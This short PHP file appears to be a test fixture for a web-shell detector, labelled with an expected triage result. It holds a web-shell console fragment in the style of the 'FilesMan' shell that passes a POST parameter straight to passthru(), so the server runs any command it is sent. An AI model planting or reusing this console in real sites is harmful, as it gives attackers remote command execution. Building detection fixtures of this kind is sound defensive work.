<?php
// triage-expect: triage_php_shell_console
$default_action = 'FilesMan';
$color = "#df5";
function actionConsole() {
    if (!empty($_POST['p1'])) {
        $out = passthru($_POST['p1']);
    }
}
